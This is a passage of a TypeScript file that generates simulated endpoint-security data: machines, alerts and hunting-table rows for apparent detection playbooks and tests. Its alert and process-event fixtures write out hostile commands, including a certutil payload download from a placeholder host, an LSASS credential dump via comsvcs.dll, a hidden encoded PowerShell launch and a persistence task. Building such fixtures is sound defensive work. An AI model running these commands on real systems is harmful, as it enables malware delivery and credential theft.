// Deterministic demo data: a believable device estate, alerts with evidence, and the advanced
// hunting tables. Timestamps are relative to `now`, everything else depends only on the seed.
import { iso7 } from './http-util';
import { Rng } from './rng';
import type { HuntingRow, HuntingTable, MachineInternal, SimAlert, SimMachine } from './types';

const DAY = 86_400_000;
const HOUR = 3_600_000;
export const SIM_DOMAIN = 'contoso-sim.local';

interface MachineSpec {
  name: string;
  os: string;
  tags: string[];
  value?: string;
}

const SPECIAL_MACHINES: MachineSpec[] = [
  { name: 'ws-fin-0412.contoso-sim.local', os: 'Windows11', tags: ['Finance'] },
  { name: 'dc01.contoso-sim.local', os: 'WindowsServer2022', tags: ['DoNotIsolate'], value: 'High' },
  { name: 'dc01', os: 'Linux', tags: [] },
  { name: 'dc010.contoso-sim.local', os: 'WindowsServer2019', tags: ['DoNotIsolate'], value: 'High' },
  { name: 'kiosk-7.contoso-sim.local', os: 'Windows10', tags: ['Kiosk'] },
  { name: 'kiosk-7.fabrikam-retail.local', os: 'Windows10', tags: ['Kiosk'] },
  { name: 'lt-exec-0007.contoso-sim.local', os: 'Windows11', tags: ['VIP'], value: 'High' },
  { name: 'mac-dsg-0031.contoso-sim.local', os: 'macOS', tags: [] },
  { name: 'lnx-web-01.contoso-sim.local', os: 'Linux', tags: [] },
  { name: 'srv-sql-02.contoso-sim.local', os: 'WindowsServer2019', tags: [], value: 'High' },
  { name: 'ws-fin-0413.contoso-sim.local', os: 'Windows10', tags: ['Finance'] },
  { name: 'srv-app-03.contoso-sim.local', os: 'WindowsServer2022', tags: [] },
];

const DEPTS = ['fin', 'hr', 'eng', 'mkt', 'ops', 'sal', 'it', 'lgl'];
const OS_MIX = ['Windows10', 'Windows11', 'Windows11', 'Windows10', 'WindowsServer2019', 'WindowsServer2022', 'Linux', 'macOS'];
const OS_DETAILS: Record<string, { version: string; build: number | null; osVersion: string | null }> = {
  Windows10: { version: '22H2', build: 19045, osVersion: '10.0.19045.4529' },
  Windows11: { version: '23H2', build: 22631, osVersion: '10.0.22631.3737' },
  WindowsServer2019: { version: '1809', build: 17763, osVersion: '10.0.17763.5936' },
  WindowsServer2022: { version: '21H2', build: 20348, osVersion: '10.0.20348.2527' },
  Linux: { version: '22.04', build: null, osVersion: 'Ubuntu 22.04.4 LTS' },
  macOS: { version: '14.5', build: null, osVersion: 'macOS Sonoma 14.5' },
};
export const USERS = ['jdoe', 'asmith', 'mgarcia', 'lchen', 'pkumar', 'svc_backup', 'rjones', 'ewilson', 'obrien', 'tnguyen'];

function ts(ms: number, rng: Rng): string {
  return iso7(ms, rng.int(0, 9999));
}

/** `domain`: a customer tenant's estate (generated names under that domain, none of the demo's named machines). */
export function seedMachines(rng: Rng, count: number, now: number, domain?: string): { machines: SimMachine[]; internal: Map<string, MachineInternal> } {
  const specs: MachineSpec[] = domain ? [] : SPECIAL_MACHINES.slice(0, count);
  for (let i = specs.length; i < count; i++) {
    const os = rng.pick(OS_MIX);
    const dept = rng.pick(DEPTS);
    const prefix = os.startsWith('WindowsServer') ? 'srv' : os === 'Linux' ? 'lnx' : os === 'macOS' ? 'mac' : 'ws';
    const name = `${prefix}-${dept}-${String(rng.int(1, 9999)).padStart(4, '0')}.${domain ?? SIM_DOMAIN}`;
    if (specs.some((s) => s.name === name)) {
      i--;
      continue;
    }
    specs.push({ name, os, tags: dept === 'fin' ? ['Finance'] : rng.chance(0.1) ? ['VIP'] : [] });
  }
  const machines: SimMachine[] = [];
  const internal = new Map<string, MachineInternal>();
  specs.forEach((spec, i) => {
    const d = OS_DETAILS[spec.os];
    const ip = `10.${20 + (i % 8)}.${rng.int(0, 254)}.${rng.int(2, 254)}`;
    const firstSeen = now - rng.int(40, 400) * DAY;
    const lastSeen = now - rng.int(5, 6 * 60) * 60_000;
    const health = i < SPECIAL_MACHINES.length ? 'Active' : rng.pick(['Active', 'Active', 'Active', 'Active', 'Inactive', 'ImpairedCommunication', 'NoSensorData']);
    const risk = rng.pick(['None', 'Informational', 'Low', 'Medium', 'High']);
    const mac = rng.hex(12).toUpperCase();
    const isWin = spec.os.startsWith('Windows');
    const m: SimMachine = {
      id: rng.hex(40),
      mergedIntoMachineId: null,
      isPotentialDuplication: false,
      isExcluded: false,
      exclusionReason: null,
      computerDnsName: spec.name,
      firstSeen: ts(firstSeen, rng),
      lastSeen: ts(lastSeen, rng),
      osPlatform: spec.os,
      osVersion: d.osVersion,
      osProcessor: 'x64',
      version: d.version,
      osBuild: d.build,
      lastIpAddress: ip,
      lastExternalIpAddress: `198.51.100.${rng.int(2, 254)}`,
      agentVersion: isWin ? `10.8${rng.int(700, 799)}.${d.build ?? 0}.${rng.int(1000, 9999)}` : `101.24${rng.int(10, 99)}.000${rng.int(1, 9)}`,
      healthStatus: health,
      deviceValue: spec.value ?? 'Normal',
      rbacGroupId: 0,
      rbacGroupName: null,
      riskScore: risk,
      exposureLevel: rng.pick(['Low', 'Medium', 'High']),
      isAadJoined: isWin && rng.chance(0.7),
      aadDeviceId: isWin ? rng.guid() : null,
      machineTags: [...spec.tags],
      defenderAvStatus: 'Updated',
      onboardingStatus: 'Onboarded',
      osArchitecture: '64-bit',
      managedBy: isWin ? 'Intune' : 'Unknown',
      managedByStatus: 'Success',
      ipAddresses: [
        { ipAddress: ip, macAddress: mac, type: 'Ethernet', operationalStatus: 'Up' },
        { ipAddress: '127.0.0.1', macAddress: null, type: 'SoftwareLoopback', operationalStatus: 'Up' },
      ],
      vmMetadata: null,
    };
    machines.push(m);
    internal.set(m.id, { isolationState: 'NotIsolated', isolationType: null, loggedOnUsers: [{ accountName: USERS[i % USERS.length], domainName: 'CONTOSO' }] });
  });
  return { machines, internal };
}

interface AlertTemplate {
  title: string;
  category: string;
  severity: string;
  source: string;
  mitre: string[];
  threat?: string;
  evidence: (m: SimMachine, user: string, rng: Rng) => Record<string, unknown>[];
}

const EVIDENCE_KEYS = [
  'entityType', 'evidenceCreationTime', 'sha1', 'sha256', 'fileName', 'filePath', 'processId', 'processCommandLine',
  'processCreationTime', 'parentProcessId', 'parentProcessCreationTime', 'parentProcessFileName', 'parentProcessFilePath',
  'ipAddress', 'url', 'registryKey', 'registryHive', 'registryValueType', 'registryValue', 'accountName', 'domainName',
  'userSid', 'aadUserId', 'userPrincipalName', 'detectionStatus',
];

function evidence(fields: Record<string, unknown>): Record<string, unknown> {
  const e: Record<string, unknown> = {};
  for (const k of EVIDENCE_KEYS) e[k] = fields[k] ?? null;
  return e;
}

const userEvidence = (user: string, rng: Rng) =>
  evidence({ entityType: 'User', accountName: user, domainName: 'CONTOSO', userSid: `S-1-5-21-1004336348-1177238915-682003330-${rng.int(1100, 9999)}`, userPrincipalName: `${user}@contoso-sim.onmicrosoft.com`, aadUserId: rng.guid() });

const ALERT_TEMPLATES: AlertTemplate[] = [
  {
    title: 'Suspicious PowerShell command line', category: 'Execution', severity: 'High', source: 'WindowsDefenderAtp', mitre: ['T1059.001', 'T1027'],
    evidence: (m, user, rng) => [
      evidence({ entityType: 'Process', fileName: 'powershell.exe', filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', processId: rng.int(1000, 20000), processCommandLine: 'powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', sha1: PROCESS_IMAGES.powershell.sha1, parentProcessFileName: 'winword.exe', detectionStatus: 'Detected' }),
      userEvidence(user, rng),
    ],
  },
  {
    title: "File downloaded with certutil", category: 'CommandAndControl', severity: 'Medium', source: 'WindowsDefenderAtp', mitre: ['T1105'],
    evidence: (m, user, rng) => [
      evidence({ entityType: 'Process', fileName: 'certutil.exe', filePath: 'C:\\Windows\\System32', processCommandLine: 'certutil.exe -urlcache -split -f http://203.0.113.50/payload.bin C:\\Users\\Public\\p.bin', sha1: PROCESS_IMAGES.certutil.sha1, processId: rng.int(1000, 20000), detectionStatus: 'Detected' }),
      evidence({ entityType: 'Url', url: 'http://203.0.113.50/payload.bin' }),
      evidence({ entityType: 'Ip', ipAddress: '203.0.113.50' }),
    ],
  },
  {
    title: 'Suspicious rundll32 execution', category: 'DefenseEvasion', severity: 'Medium', source: 'WindowsDefenderAtp', mitre: ['T1218.011'],
    evidence: (m, user, rng) => [
      evidence({ entityType: 'Process', fileName: 'rundll32.exe', filePath: 'C:\\Windows\\System32', processCommandLine: 'rundll32.exe C:\\Users\\Public\\p.bin,DllRegisterServer', sha1: PROCESS_IMAGES.rundll32.sha1, processId: rng.int(1000, 20000), detectionStatus: 'Detected' }),
    ],
  },
  {
    title: "Malicious file 'invoice \"final\".pdf.exe' detected", category: 'Malware', severity: 'High', source: 'WindowsDefenderAv', mitre: [], threat: 'Trojan:Win32/Wacatac.B!ml',
    evidence: (m, user, rng) => [
      evidence({ entityType: 'File', fileName: 'invoice "final".pdf.exe', filePath: `C:\\Users\\${user}\\Downloads`, sha1: 'a94a8fe5ccb19ba61c4c0873d391e987982fbbd3', sha256: '2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824', detectionStatus: 'Prevented' }),
      userEvidence(user, rng),
    ],
  },
  {
    title: 'EICAR test file', category: 'Malware', severity: 'Informational', source: 'WindowsDefenderAv', mitre: [], threat: 'Virus:DOS/EICAR_Test_File',
    evidence: (m, user) => [evidence({ entityType: 'File', fileName: 'eicar.com', filePath: `C:\\Users\\${user}\\Desktop`, sha1: '3395856ce81f2b7382dee72602f798b642f14140', detectionStatus: 'Blocked' })],
  },
  {
    title: 'Low-reputation arbitrary code executed by signed executable', category: 'Execution', severity: 'Low', source: 'WindowsDefenderAtp', mitre: ['T1064', 'T1085', 'T1220'],
    evidence: (m, user, rng) => [evidence({ entityType: 'Process', fileName: 'msiexec.exe', filePath: 'C:\\Windows\\System32', processCommandLine: 'msiexec.exe /i "C:\\Users\\Public\\O\'Brien\'s setup.msi" /qn', processId: rng.int(1000, 20000), detectionStatus: 'Detected' })],
  },
  {
    title: 'Suspicious LDAP query', category: 'Discovery', severity: 'Low', source: 'WindowsDefenderAtp', mitre: ['T1087.002'],
    evidence: (m, user, rng) => [userEvidence(user, rng)],
  },
  {
    title: 'Credential dumping activity observed', category: 'CredentialAccess', severity: 'High', source: 'WindowsDefenderAtp', mitre: ['T1003.001'],
    evidence: (m, user, rng) => [evidence({ entityType: 'Process', fileName: 'rundll32.exe', filePath: 'C:\\Windows\\System32', processCommandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full', processId: rng.int(1000, 20000), detectionStatus: 'Detected' })],
  },
  {
    title: 'Connection to a custom network indicator', category: 'CommandAndControl', severity: 'Medium', source: 'CustomerTI', mitre: [],
    evidence: () => [evidence({ entityType: 'Url', url: 'https://evil-cdn.example/stage2' }), evidence({ entityType: 'Ip', ipAddress: '203.0.113.77' })],
  },
  {
    title: 'Suspicious scheduled task', category: 'Persistence', severity: 'Medium', source: 'WindowsDefenderAtp', mitre: ['T1053.005'],
    evidence: (m, user, rng) => [evidence({ entityType: 'Process', fileName: 'schtasks.exe', filePath: 'C:\\Windows\\System32', processCommandLine: 'schtasks.exe /create /tn "Updater" /tr "C:\\ProgramData\\upd.exe" /sc onlogon', processId: rng.int(1000, 20000), detectionStatus: 'Detected' })],
  },
];

const DESCRIPTIONS: Record<string, string> = {
  Execution: 'A process executed a suspicious command line that is commonly used by attackers to run code.',
  CommandAndControl: 'A process downloaded content or connected to infrastructure associated with malicious activity.',
  DefenseEvasion: 'A signed system binary was used to proxy execution of untrusted code.',
  Malware: 'Microsoft Defender Antivirus detected malware on this device.',
  Discovery: 'An account ran a query that enumerates sensitive directory objects.',
  CredentialAccess: 'A process accessed the memory of the LSASS process, which may indicate credential theft.',
  Persistence: 'A scheduled task was created to run an unusual program at logon.',
};

export interface AlertSeedContext {
  rng: Rng;
  tenantId: string;
  machines: SimMachine[];
  internal: Map<string, MachineInternal>;
}

/** One alert at `createdMs`; `templateIndex` picks a template (random when omitted). */
export function makeAlert(ctx: AlertSeedContext, createdMs: number, overrides: Partial<SimAlert> = {}, templateIndex?: number): SimAlert {
  const { rng } = ctx;
  const tpl = ALERT_TEMPLATES[templateIndex ?? rng.int(0, ALERT_TEMPLATES.length - 1)];
  const machine = (overrides.machineId && ctx.machines.find((m) => m.id === overrides.machineId)) || rng.pick(ctx.machines);
  const user = ctx.internal.get(machine.id)?.loggedOnUsers[0]?.accountName ?? rng.pick(USERS);
  const firstEvent = createdMs - rng.int(60_000, 20 * 60_000);
  const lastEvent = firstEvent + rng.int(100, 60_000);
  const ticks = BigInt(createdMs) * 10000n + 621355968000000000n;
  const alert: SimAlert = {
    id: `da${ticks}_${rng.int(-2147483647, 2147483647)}`,
    incidentId: rng.int(1000, 99999),
    investigationId: rng.chance(0.5) ? rng.int(100, 9999) : null,
    assignedTo: null,
    severity: tpl.severity,
    status: 'New',
    classification: null,
    determination: null,
    investigationState: rng.pick(['Queued', 'Running', 'PendingApproval', 'UnsupportedAlertType', 'Benign']),
    detectionSource: tpl.source,
    detectorId: rng.guid(),
    category: tpl.category,
    threatFamilyName: tpl.threat ? tpl.threat.split(/[:/.!]/)[2] ?? null : null,
    title: tpl.title,
    description: DESCRIPTIONS[tpl.category] ?? 'Suspicious activity was observed on this device.',
    alertCreationTime: ts(createdMs, rng),
    firstEventTime: ts(firstEvent, rng),
    lastEventTime: ts(lastEvent, rng),
    lastUpdateTime: ts(createdMs + rng.int(1000, 120_000), rng),
    resolvedTime: null,
    machineId: machine.id,
    computerDnsName: machine.computerDnsName,
    rbacGroupName: null,
    aadTenantId: ctx.tenantId,
    threatName: tpl.threat ?? null,
    mitreTechniques: [...tpl.mitre],
    relatedUser: { userName: user, domainName: 'CONTOSO' },
    loggedOnUsers: [{ accountName: user, domainName: 'CONTOSO' }],
    comments: [],
    evidence: tpl.evidence(machine, user, rng).map((e) => ({ ...e, evidenceCreationTime: ts(createdMs, rng) })),
    domains: [],
    ...overrides,
  };
  return alert;
}

/**
 * Inserts `alert` keeping `alerts` ascending by alertCreationTime (all stored timestamps have the
 * same 7-digit form, so text order is time order). Ties go after the alerts already there.
 */
export function insertAlertInOrder(alerts: SimAlert[], alert: SimAlert): void {
  const key = String(alert.alertCreationTime);
  let lo = 0;
  let hi = alerts.length;
  while (lo < hi) {
    const mid = (lo + hi) >>> 1;
    if (String(alerts[mid]!.alertCreationTime) <= key) lo = mid + 1;
    else hi = mid;
  }
  alerts.splice(lo, 0, alert);
}

export function seedAlerts(ctx: AlertSeedContext, count: number, now: number): SimAlert[] {
  const alerts: SimAlert[] = [];
  const span = 7 * DAY;
  const fin = ctx.machines.find((m) => m.computerDnsName.startsWith('ws-fin-0412'));
  for (let i = 0; i < count; i++) {
    const created = now - span + Math.floor(((i + 0.5) / count) * (span - HOUR));
    // The newest few alerts target the "incident" machine so demo playbooks have a story.
    const onFin = fin && i >= count - 4;
    const a = makeAlert(ctx, created, onFin ? { machineId: fin.id } : {}, onFin ? (count - 1 - i) % 4 : undefined);
    const r = ctx.rng.next();
    if (!onFin && r < 0.25) {
      a.status = 'Resolved';
      a.classification = ctx.rng.pick(['TruePositive', 'FalsePositive', 'InformationalExpectedActivity']);
      a.determination = a.classification === 'FalsePositive' ? 'Clean' : 'Other';
      a.assignedTo = ctx.rng.chance(0.5) ? 'API Action' : 'secop2@contoso-sim.onmicrosoft.com';
      a.resolvedTime = a.lastUpdateTime;
    } else if (!onFin && r < 0.4) {
      a.status = 'InProgress';
      a.assignedTo = 'analyst1@contoso-sim.onmicrosoft.com';
    }
    alerts.push(a);
  }
  return alerts;
}

// ---------- advanced hunting ----------

interface ProcessImage {
  file: string;
  folder: string;
  sha1: string;
  sha256: string;
  cmd: string[];
}

const PROCESS_IMAGES: Record<string, ProcessImage> = {
  powershell: { file: 'powershell.exe', folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', sha1: '6cbce4a295c163791b60fc23d285e6d84f28ee4c', sha256: 'de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c', cmd: ['powershell.exe -ExecutionPolicy Bypass -File C:\\ProgramData\\Scripts\\inventory.ps1', 'powershell.exe Get-Service'] },
  cmd: { file: 'cmd.exe', folder: 'C:\\Windows\\System32\\cmd.exe', sha1: 'ded8fd7f36417f66eb6ada10e0c0d7c0022986e9', sha256: 'b99d114b267ffd068c3289199b6df95a9ca3ba4a11f0e54d5b5e4d2f9e3d6c12', cmd: ['cmd.exe /c ipconfig /all', 'cmd.exe /c dir C:\\Users'] },
  svchost: { file: 'svchost.exe', folder: 'C:\\Windows\\System32\\svchost.exe', sha1: 'a1385ce20ad79f55df235effd9780c31442aa234', sha256: '643ec58e82e0272c97c2a59f6020970d881af19c0ad5029db9c958c13b6558c7', cmd: ['svchost.exe -k netsvcs -p -s Schedule', 'svchost.exe -k LocalService -p'] },
  chrome: { file: 'chrome.exe', folder: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', sha1: '3f1d2e4b5a6978c0d1e2f3a4b5c6d7e8f9a0b1c2', sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', cmd: ['"chrome.exe" --type=renderer', '"chrome.exe" https://intranet.contoso-sim.local/'] },
  outlook: { file: 'OUTLOOK.EXE', folder: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', sha1: 'b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1', sha256: '60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752', cmd: ['"OUTLOOK.EXE" /recycle'] },
  winword: { file: 'WINWORD.EXE', folder: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', sha1: 'c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2', sha256: 'fd61a03af4f77d870fc21e05e7e80678095c92d808cfb3b5c279ee04c74aca13', cmd: ['"WINWORD.EXE" /n "C:\\Users\\Public\\Documents\\Q3 report.docx"'] },
  msedge: { file: 'msedge.exe', folder: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', sha1: 'd4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3', sha256: 'a665a45920422f9d417e4867efdc4fb8a04a1f3fff1fa07e998e86f7f7a27ae3', cmd: ['"msedge.exe" --single-argument https://portal.contoso-sim.local'] },
  teams: { file: 'ms-teams.exe', folder: 'C:\\Program Files\\WindowsApps\\MSTeams\\ms-teams.exe', sha1: 'e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4', sha256: 'b3a8e0e1f9ab1bfe3a36f231f676f78bb30a519d2b21e6c530c0eee8ebb4a5d0', cmd: ['"ms-teams.exe" --system-initiated'] },
  bash: { file: 'bash', folder: '/usr/bin/bash', sha1: 'f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5', sha256: '2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae', cmd: ['bash -c "apt list --upgradable"', 'bash /opt/backup/run.sh'] },
  certutil: { file: 'certutil.exe', folder: 'C:\\Windows\\System32\\certutil.exe', sha1: '9b2e4bb1f0b3ab6f37c9bd5c1ef3c2e5e0bba2bd', sha256: '5994471abb01112afcc18159f6cc74b4f511b99806da59b3caf5a9c173cacfc5', cmd: [] },
  rundll32: { file: 'rundll32.exe', folder: 'C:\\Windows\\System32\\rundll32.exe', sha1: 'f17616e59e08b3b7a3e3b5b0a8e4a2e6d1e5c7b9', sha256: '8d969eef6ecad3c29a3a629280e686cf0c3f5d5a86aff3ca12020c923adc6c92', cmd: [] },
};
const COMMON_IMAGES = ['powershell', 'cmd', 'svchost', 'svchost', 'chrome', 'outlook', 'winword', 'msedge', 'teams'] as const;
const PARENTS = ['explorer.exe', 'services.exe', 'svchost.exe', 'userinit.exe', 'cmd.exe'];
const PARENT_CMD: Record<string, string> = {
  'explorer.exe': 'C:\\Windows\\Explorer.EXE',
  'services.exe': 'C:\\Windows\\system32\\services.exe',
  'svchost.exe': 'svchost.exe -k netsvcs -p',
  'userinit.exe': 'C:\\Windows\\system32\\userinit.exe',
  'cmd.exe': 'cmd.exe /c start',
};

function col(name: string, type: HuntingTable['columns'][number]['type']) {
  return { name, type };
}

const PROCESS_COLUMNS = [
  col('Timestamp', 'DateTime'), col('DeviceId', 'String'), col('DeviceName', 'String'), col('ActionType', 'String'),
  col('FileName', 'String'), col('FolderPath', 'String'), col('SHA1', 'String'),
  col('ProcessId', 'Int64'), col('ProcessCommandLine', 'String'),
  col('AccountDomain', 'String'), col('AccountName', 'String'), col('InitiatingProcessFileName', 'String'),
  col('InitiatingProcessCommandLine', 'String'), col('InitiatingProcessAccountName', 'String'), col('ReportId', 'Int64'),
];
const NETWORK_COLUMNS = [
  col('Timestamp', 'DateTime'), col('DeviceId', 'String'), col('DeviceName', 'String'), col('ActionType', 'String'),
  col('RemoteIP', 'String'), col('RemotePort', 'Int32'), col('RemoteUrl', 'String'), col('LocalIP', 'String'), col('LocalPort', 'Int32'),
  col('Protocol', 'String'), col('InitiatingProcessFileName', 'String'), col('InitiatingProcessCommandLine', 'String'),
  col('InitiatingProcessAccountName', 'String'), col('ReportId', 'Int64'),
];
const FILE_COLUMNS = [
  col('Timestamp', 'DateTime'), col('DeviceId', 'String'), col('DeviceName', 'String'), col('ActionType', 'String'),
  col('FileName', 'String'), col('FolderPath', 'String'), col('SHA1', 'String'), col('SHA256', 'String'), col('FileSize', 'Int64'),
  col('InitiatingProcessFileName', 'String'), col('InitiatingProcessCommandLine', 'String'), col('InitiatingProcessAccountName', 'String'),
  col('ReportId', 'Int64'),
];
const INFO_COLUMNS = [
  col('Timestamp', 'DateTime'), col('DeviceId', 'String'), col('DeviceName', 'String'), col('OSPlatform', 'String'),
  col('OSVersion', 'String'), col('OSBuild', 'Int64'), col('PublicIP', 'String'), col('IsAzureADJoined', 'Boolean'),
  col('MachineGroup', 'String'), col('DeviceType', 'String'), col('OnboardingStatus', 'String'), col('ExposureLevel', 'String'),
  col('SensorHealthState', 'String'), col('DeviceValue', 'String'), col('ReportId', 'Int64'),
];

/** The suspicious rows playbooks and tests look for; placed on the finance workstation. */
function suspiciousProcessRows(m: SimMachine, now: number): HuntingRow[] {
  const base = (minutesAgo: number, img: ProcessImage, cmd: string, parent: string, parentCmd: string, id: number): HuntingRow => ({
    Timestamp: now - minutesAgo * 60_000, DeviceId: m.id, DeviceName: m.computerDnsName, ActionType: 'ProcessCreated',
    FileName: img.file, FolderPath: img.folder, SHA1: img.sha1, ProcessId: id, ProcessCommandLine: cmd,
    AccountDomain: 'contoso', AccountName: 'jdoe', InitiatingProcessFileName: parent,
    InitiatingProcessCommandLine: parentCmd, InitiatingProcessAccountName: 'jdoe', ReportId: 900000 + id,
  });
  const word = '"WINWORD.EXE" /n "C:\\Users\\jdoe\\Downloads\\invoice \\"final\\".docm"';
  return [
    base(95, PROCESS_IMAGES.powershell, 'powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', 'WINWORD.EXE', word, 7412),
    base(90, PROCESS_IMAGES.certutil, 'certutil.exe -urlcache -split -f http://203.0.113.50/payload.bin C:\\Users\\Public\\p.bin', 'powershell.exe', 'powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', 7433),
    base(85, PROCESS_IMAGES.rundll32, 'rundll32.exe C:\\Users\\Public\\p.bin,DllRegisterServer', 'cmd.exe', 'cmd.exe /c "C:\\Temp\\evil \\"quoted\\".bat"', 7460),
    base(80, PROCESS_IMAGES.cmd, 'cmd.exe /c "C:\\Temp\\evil \\"quoted\\".bat"', 'explorer.exe', 'C:\\Windows\\Explorer.EXE', 7470),
    { ...base(75, PROCESS_IMAGES.cmd, "cmd.exe /c type \"C:\\Users\\obrien\\O'Brien's notes.txt\"", 'explorer.exe', 'C:\\Windows\\Explorer.EXE', 7481), FileName: "O'Brien's tool.exe", FolderPath: "C:\\Users\\obrien\\Desktop\\O'Brien's tool.exe", AccountName: 'obrien' },
  ];
}

export function seedHunting(rng: Rng, machines: SimMachine[], now: number, counts: { process: number; network: number; file: number }): Record<string, HuntingTable> {
  const span = 7 * DAY;
  const fin = machines.find((m) => m.computerDnsName.startsWith('ws-fin-0412')) ?? machines[0];
  const windowsMachines = machines.filter((m) => m.osPlatform.startsWith('Windows'));
  const pool = windowsMachines.length ? windowsMachines : machines;

  // ---- DeviceProcessEvents: generated in time order so no sort is needed.
  const special = fin ? suspiciousProcessRows(fin, now) : [];
  const nSpecial = Math.min(special.length, counts.process);
  const nProc = counts.process - nSpecial;
  const procRows: HuntingRow[] = new Array<HuntingRow>(counts.process);
  const step = span / Math.max(1, nProc);
  let pid = 4000;
  for (let i = 0; i < nProc; i++) {
    const m = pool[Math.floor(rng.next() * pool.length)];
    const img = m.osPlatform === 'Linux' ? PROCESS_IMAGES.bash : PROCESS_IMAGES[COMMON_IMAGES[Math.floor(rng.next() * COMMON_IMAGES.length)]];
    const parent = PARENTS[Math.floor(rng.next() * PARENTS.length)];
    const user = USERS[Math.floor(rng.next() * USERS.length)];
    const t = Math.floor(now - span + i * step + rng.next() * step);
    pid += 1 + Math.floor(rng.next() * 40);
    procRows[i] = {
      Timestamp: t, DeviceId: m.id, DeviceName: m.computerDnsName, ActionType: 'ProcessCreated', FileName: img.file,
      FolderPath: img.folder, SHA1: img.sha1, ProcessId: pid, ProcessCommandLine: img.cmd[Math.floor(rng.next() * img.cmd.length)],
      AccountDomain: 'contoso', AccountName: user, InitiatingProcessFileName: parent,
      InitiatingProcessCommandLine: PARENT_CMD[parent], InitiatingProcessAccountName: user, ReportId: 10000 + i,
    };
  }
  for (let i = 0; i < nSpecial; i++) procRows[nProc + i] = special[i];

  // ---- DeviceNetworkEvents
  const netRows: HuntingRow[] = [];
  const nStep = span / Math.max(1, counts.network);
  for (let i = 0; i < counts.network; i++) {
    const m = pool[Math.floor(rng.next() * pool.length)];
    const web = rng.chance(0.7);
    netRows.push({
      Timestamp: Math.floor(now - span + i * nStep), DeviceId: m.id, DeviceName: m.computerDnsName,
      ActionType: rng.chance(0.9) ? 'ConnectionSuccess' : 'ConnectionFailed',
      RemoteIP: web ? `13.107.${rng.int(0, 255)}.${rng.int(1, 254)}` : `10.${rng.int(20, 27)}.${rng.int(0, 254)}.${rng.int(2, 254)}`,
      RemotePort: web ? 443 : rng.pick([445, 389, 88, 135, 3389]), RemoteUrl: web ? rng.pick(['login.microsoftonline.com', 'outlook.office365.com', 'www.bing.com', 'teams.microsoft.com', '']) : '',
      LocalIP: m.lastIpAddress, LocalPort: rng.int(49152, 65535), Protocol: 'Tcp',
      InitiatingProcessFileName: web ? rng.pick(['chrome.exe', 'msedge.exe', 'OUTLOOK.EXE', 'ms-teams.exe']) : 'svchost.exe',
      InitiatingProcessCommandLine: web ? '"msedge.exe" --single-argument' : 'svchost.exe -k netsvcs -p',
      InitiatingProcessAccountName: rng.pick(USERS), ReportId: 50000 + i,
    });
  }
  if (fin && counts.network > 0) {
    netRows.push(
      { Timestamp: now - 91 * 60_000, DeviceId: fin.id, DeviceName: fin.computerDnsName, ActionType: 'ConnectionSuccess', RemoteIP: '203.0.113.50', RemotePort: 80, RemoteUrl: 'http://203.0.113.50/payload.bin', LocalIP: fin.lastIpAddress, LocalPort: 51234, Protocol: 'Tcp', InitiatingProcessFileName: 'certutil.exe', InitiatingProcessCommandLine: 'certutil.exe -urlcache -split -f http://203.0.113.50/payload.bin C:\\Users\\Public\\p.bin', InitiatingProcessAccountName: 'jdoe', ReportId: 990001 },
      { Timestamp: now - 84 * 60_000, DeviceId: fin.id, DeviceName: fin.computerDnsName, ActionType: 'ConnectionSuccess', RemoteIP: '203.0.113.77', RemotePort: 443, RemoteUrl: 'evil-cdn.example', LocalIP: fin.lastIpAddress, LocalPort: 51240, Protocol: 'Tcp', InitiatingProcessFileName: 'rundll32.exe', InitiatingProcessCommandLine: 'rundll32.exe C:\\Users\\Public\\p.bin,DllRegisterServer', InitiatingProcessAccountName: 'jdoe', ReportId: 990002 },
    );
  }

  // ---- DeviceFileEvents
  const fileRows: HuntingRow[] = [];
  const fStep = span / Math.max(1, counts.file);
  const docNames = ['Q3 report.docx', 'budget.xlsx', 'notes.txt', 'setup.msi', 'image001.png', 'minutes.pdf'];
  for (let i = 0; i < counts.file; i++) {
    const m = pool[Math.floor(rng.next() * pool.length)];
    const user = rng.pick(USERS);
    const name = rng.pick(docNames);
    fileRows.push({
      Timestamp: Math.floor(now - span + i * fStep), DeviceId: m.id, DeviceName: m.computerDnsName,
      ActionType: rng.pick(['FileCreated', 'FileModified', 'FileModified', 'FileDeleted', 'FileRenamed']), FileName: name,
      FolderPath: `C:\\Users\\${user}\\Documents\\${name}`, SHA1: rng.hex(40), SHA256: rng.hex(64), FileSize: rng.int(1000, 5_000_000),
      InitiatingProcessFileName: rng.pick(['explorer.exe', 'WINWORD.EXE', 'EXCEL.EXE', 'chrome.exe']), InitiatingProcessCommandLine: 'C:\\Windows\\Explorer.EXE',
      InitiatingProcessAccountName: user, ReportId: 70000 + i,
    });
  }
  if (fin && counts.file > 0) {
    fileRows.push(
